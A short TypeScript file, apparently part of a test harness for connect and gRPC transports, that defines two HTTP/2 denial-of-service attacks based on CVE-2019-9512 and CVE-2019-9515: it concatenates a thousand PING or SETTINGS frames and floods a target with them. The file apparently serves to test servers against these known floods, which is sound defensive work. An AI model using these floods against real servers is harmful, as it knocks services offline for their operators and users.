import { frame, types } from "../../packages/transport-connect/src/raw-http2.fixture.ts";
import type { Attack } from "../attack.ts";
import { flood } from "../flood.ts";

const each = 1_000;

/** Frames that ask for an answer each. Source: CVE-2019-9512 and CVE-2019-9515. */
function controlFrames(name: string, what: string, one: Buffer): Attack {
  const many = Buffer.concat(Array.from({ length: each }, () => one));
  return {
    name,
    what,
    transports: ["connect", "grpc"],
    run: (target) => flood(target, { unit: "frames", each, next: () => many }),
  };
}

/** PING after PING. */
export const pings: Attack = controlFrames(
  "pings",
  "PING after PING (CVE-2019-9512)",
  frame(types.ping, 0, 0, Buffer.alloc(8)),
);

/** SETTINGS after SETTINGS. */
export const settings: Attack = controlFrames(
  "settings",
  "SETTINGS after SETTINGS (CVE-2019-9515)",
  frame(types.settings, 0, 0, Buffer.from([0, 4, 0, 0, 255, 255])),
);
